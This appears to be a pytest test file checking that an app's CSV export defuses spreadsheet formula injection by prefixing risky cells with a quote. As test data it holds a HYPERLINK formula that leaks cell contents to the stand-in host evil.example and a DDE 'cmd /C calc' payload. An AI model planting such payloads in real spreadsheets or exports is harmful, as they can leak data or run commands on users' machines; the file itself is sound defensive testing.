"""Formula injection: every text cell a spreadsheet would read as a formula is defused (OWASP's
rule), in the one CSV writer every download goes through (issue 14)."""

from __future__ import annotations

import csv
import io

import pytest

from app.core.calculator import analyze, validate_spec
from app.core.compare import compare
from app.core.compare import to_csv as comparison_csv
from app.core.csv_safe import csv_text, safe_cell
from app.core.formatting import to_csv

LEADING = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("lead", LEADING, ids=[f"U+{ord(c):04X}" for c in LEADING])
def test_each_leading_character_is_defused(lead: str) -> None:
    cell = f'{lead}HYPERLINK("https://evil.example/?"&A1,"x")'
    assert safe_cell(cell) == "'" + cell
    [_header, row] = _cells(csv_text(["name"], [[cell]]))
    assert row == ["'" + cell]


@pytest.mark.parametrize(
    "cell",
    [
        "conv1",
        "",
        "a=b",
        " =1",
        "'quoted",
        "\u2212 minus sign",
        "\u230a(224 \u2212 11)/4\u230b + 1 = 54",
    ],
)
def test_text_that_is_not_a_formula_is_kept(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_numbers_stay_numbers() -> None:
    rows = [[-642_000, 1.5], [0, None]]
    assert _cells(csv_text(["delta", "x"], rows))[1:] == [["-642000", "1.5"], ["0", ""]]


def test_separators_quotes_and_line_breaks_stay_inside_their_cell() -> None:
    cells = ["a,b", 'say "hi"', "line\nbreak", "carriage\rreturn", "x\r\ny"]
    assert _cells(csv_text(["a", "b", "c", "d", "e"], [cells]))[1] == cells


@pytest.mark.parametrize("lead", LEADING, ids=[f"U+{ord(c):04X}" for c in LEADING])
def test_a_layer_and_a_net_named_as_formulas_download_defused(lead: str) -> None:
    name = f"{lead}cmd|' /C calc'!A0"[:64]
    spec = {
        "name": name,
        "input": {"height": 8, "width": 8, "channels": 3},
        "layers": [{"kind": "conv", "name": name, "out_channels": 4, "kernel": 3}],
    }
    rows = _cells(to_csv(analyze(spec)))
    assert rows[1][1] == "'" + name
    assert all(not cell or cell[0] not in LEADING for row in rows for cell in row[1:3])


def test_the_comparison_csv_goes_through_the_same_writer() -> None:
    spec = {
        "name": "=a",
        "input": {"height": 8, "width": 8, "channels": 3},
        "layers": [{"kind": "conv", "name": "@b", "out_channels": 4, "kernel": 3}],
    }
    parsed = validate_spec(spec)
    table = analyze(spec)
    text = comparison_csv(compare(parsed, table, parsed, table))
    assert "@b" in text
    assert all(not cell or cell[0] not in LEADING for row in _cells(text) for cell in row)
